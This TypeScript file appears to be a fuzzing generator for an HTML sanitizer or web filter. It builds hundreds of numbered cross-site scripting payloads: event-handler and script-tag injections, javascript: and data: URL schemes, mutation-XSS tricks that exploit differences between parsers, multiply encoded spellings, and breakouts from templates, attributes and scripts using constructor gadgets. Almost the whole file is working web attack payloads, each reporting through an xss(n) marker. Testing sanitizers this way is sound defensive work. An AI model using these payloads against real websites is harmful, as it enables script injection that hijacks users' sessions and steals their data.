/** Attempts to get code into a page, from the families that are known; `xss(n)` tells which one got through. */

const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onclick',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'ontransitionend',
  'onbegin',
  'onstart',
  'onwheel',
] as const
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'input autofocus',
  'details open',
  'marquee',
  'object data=x',
  'select autofocus',
  'textarea autofocus',
  'button autofocus',
  'form',
  'a href=x',
  'style',
  'math',
  'embed src=x',
  'animate',
  'dialog open',
] as const

type Code = string

/** An element with a handler, in all the ways one may be written. */
function* handlers(code: Code) {
  for (const element of ELEMENTS)
    for (const handler of HANDLERS) {
      yield `<${element} ${handler}=${code}>`
      yield `<${element.replace(' ', '/')}/${handler}="${code}">`
      yield `<${element}\n${handler}\n=\n"${code}"\n>`
      yield `"><${element.toUpperCase()}\t${handler.toUpperCase()}='${code}'//`
    }
}

function* scripts(code: Code) {
  yield* [
    `<script>${code}</script>`,
    `<ScRiPt>${code}</sCrIpT>`,
    `<script/x>${code}</script/x>`,
    `<script\n>${code}</script\n>`,
    `<script>${code}`,
    `<<script>${code}//<</script>`,
    `<script src=data:text/javascript,${code}></script>`,
    `<script type=module>${code}</script>`,
    `<svg><script>${code}</script></svg>`,
    `<svg><script href=data:,${code} /></svg>`,
    `<math><script>${code}</script></math>`,
    `<template><script>${code}</script></template>`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<script>/*<!--*/${code}</script>`,
    `<!--><script>${code}</script>-->`,
    `<![CDATA[<script>${code}</script>]]>`,
    `<?xml version="1.0"?><script>${code}</script>`,
    `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.${code}&lt;/script&gt;"></iframe>`,
    `<object data="data:text/html,<script>${code}</script>"></object>`,
    `<embed src="data:text/html;base64,${btoa(`<script>${code}</script>`)}">`,
    `<link rel=import href="data:text/html,<script>${code}</script>">`,
    `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
    `<base href="javascript:${code}//">`,
    `\u0000<script>${code}</script>`,
    `<scri\u0000pt>${code}</scri\u0000pt>`,
    `<script\u000c>${code}</script>`,
    `\ufeff<script>${code}</script>`,
  ]
}

const SCHEMES = (code: Code) => [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  ` javascript:${code}`,
  `\u0001javascript:${code}`,
  `java\tscript:${code}`,
  `java\nscript:${code}`,
  `javascript\u003a${code}`,
  `javascript&colon;${code}`,
  `&#106;avascript:${code}`,
  `&#x6A;&#x61;vascript:${code}`,
  `javascript://%0a${code}`,
  `javascript:/*--></title></style></textarea>*/${code}`,
  `vbscript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
  `data:image/svg+xml,<svg onload=${code}>`,
  `blob:${code}`,
  `view-source:javascript:${code}`,
  `feed:javascript:${code}`,
]

function* addresses(code: Code) {
  for (const url of SCHEMES(code)) {
    yield url
    yield `<a href="${url}">x</a>`
    yield `<iframe src='${url}'></iframe>`
    yield `<form action="${url}"><button>x</button></form>`
    yield `<svg><a xlink:href="${url}"><text>x</text></a></svg>`
    yield `<img src="${url}">`
    yield `[x](${url})`
    yield `<math href="${url}">x</math>`
    yield `<button formaction="${url}">x</button>`
    yield `<object data="${url}"></object>`
  }
}

/** Texts that mean one thing to the parser that cleans and another to the one that shows. */
function* mutations(code: Code) {
  const img = `<img src=x onerror=${code}>`
  yield* [
    `<noscript><p title="</noscript>${img}">`,
    `<svg></p><style><a id="</style>${img}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img}">`,
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${img}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${img}`,
    `<svg><style><img src=x title="</style>${img}">`,
    `<xmp><p title="</xmp>${img}">`,
    `<noembed><p title="</noembed>${img}">`,
    `<textarea><p title="</textarea>${img}">`,
    `<title><p title="</title>${img}">`,
    `<style><p title="</style>${img}">`,
    `<template><p title="</template>${img}">`,
    `<plaintext>${img}`,
    `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
    `<svg><foreignObject><p>${img}</p></foreignObject></svg>`,
    `<svg><desc>${img}</desc></svg>`,
    `<svg><animate attributeName=href values=javascript:${code} /></svg>`,
    `<svg><set attributeName=onload to=${code} /></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}>#x"></use></svg>`,
    `<math><annotation-xml encoding="text/html"><script>${code}</script></annotation-xml></math>`,
    `<select><template>${img}</template></select>`,
    `<table><td>${img}</table>`,
    `<p><a><p>${img}`,
    `<a></a><x><a title="</x>${img}">`,
    `<!--<img src="--><img src=x onerror=${code}//">`,
    `<![><img src="]><img src=x onerror=${code}//">`,
    `<!-- --!> ${img}`,
    `<img src="\`"onerror=${code}//\`">`,
    `<div id="x\`\`onmouseover=${code}">`,
    `<frameset onload=${code}>`,
    `<image src=x onerror=${code}>`,
    `<isindex type=image src=1 onerror=${code}>`,
    `<keygen autofocus onfocus=${code}>`,
    `<input type=hidden oncontentvisibilityautostatechange=${code} style=content-visibility:auto>`,
    `<div style="background:url(javascript:${code})">`,
    `<div style="width:expression(${code})">`,
    `<style>@import 'javascript:${code}';</style>`,
    `<link rel=stylesheet href="javascript:${code}">`,
    `<x style="animation-name:appear" onanimationstart=${code}></x>`,
    `<custom-element onfocus=${code} tabindex=1 autofocus>`,
  ]
}

/** The same, in spellings that somebody may undo once too often. */
const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/</g, '&amp;lt;').replace(/>/g, '&amp;gt;'),
  (text) => text.replace(/</g, '&#60;').replace(/>/g, '&#62;'),
  (text) => text.replace(/</g, '&#x0000003c'),
  (text) => text.replace(/</g, '\\u003c').replace(/>/g, '\\u003e'),
  (text) => text.replace(/</g, '\\x3c'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replace(/</g, '＜').replace(/>/g, '＞'),
  (text) => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  (text) => text.replace(/</g, '‹').replace(/>/g, '›'),
  (text) => text.replace(/</g, '< '),
  (text) => text.replace(/</g, '%u003c'),
  (text) => Array.from(text, (sign) => `&#${sign.codePointAt(0)};`).join(''),
]

function* spelt(code: Code) {
  const plain = [
    `<script>${code}</script>`,
    `<img src=x onerror=${code}>`,
    `<svg onload=${code}>`,
    `<iframe src=javascript:${code}>`,
    `<a href=javascript:${code}>x</a>`,
    `<details open ontoggle=${code}>`,
    `<body onload=${code}>`,
    `"><img src=x onerror=${code}>`,
    `</script><script>${code}</script>`,
  ]
  for (const text of plain) for (const spell of SPELLINGS) yield spell(text)
}

/** Ways out of a template, an attribute, a script or a style. */
function* breakouts(code: Code) {
  const inside = [
    code,
    `constructor.constructor('${code}')()`,
    `$on.constructor('${code}')()`,
    `[].filter.constructor('${code}')()`,
    `''.sub.call.call({}[$='constructor'].getOwnPropertyDescriptor(''.sub.__proto__,$).value,0,'${code}')()`,
    `_c.constructor('${code}')()`,
    `this.constructor.constructor('${code}')()`,
  ]
  const ways: readonly (readonly [string, string])[] = [
    ['{{', '}}'],
    ['${', '}'],
    ['#{', '}'],
    ['<%=', '%>'],
    ['[[', ']]'],
    ['{%', '%}'],
    ['*{', '}'],
    ['${{', '}}'],
    ['`${', '}`'],
    ['";', ';//'],
    ["';", ';//'],
    ["'-", "-'"],
    ['"-', '-"'],
    ['</script><script>', '</script>'],
    ['\u2028', '\u2029'],
    ['*/', '/*'],
    ['-->', '<!--'],
    [']]>', ''],
    ['\\";', '//'],
    ["\\';", '//'],
    ['" autofocus onfocus=', ' x="'],
    ["' onmouseover=", " x='"],
    ['" style=animation:appear onanimationstart=', ' "'],
    ['javascript:', '//'],
    ['__proto__[innerHTML]=', ''],
    ['constructor[prototype][src]=javascript:', ''],
    ['"}]},{"success":true,"value":{"', '"'],
    ['};', '//'],
    ['$R[0]=', ';'],
  ]
  for (const [before, after] of ways) for (const text of inside) yield `${before}${text}${after}`
}

/** Where it is encoded it stays as it is, and is a variable of the page. */
const NUMBER = 'xssNumber'

/** All of them, each with a number of its own. */
export function hostileTexts(): string[] {
  const families = [handlers, scripts, addresses, mutations, spelt, breakouts]
  const texts = new Set(families.flatMap((family) => [...family(`xss(${NUMBER})`)]))
  return [...texts].map((text, at) => text.replaceAll(NUMBER, String(at)))
}
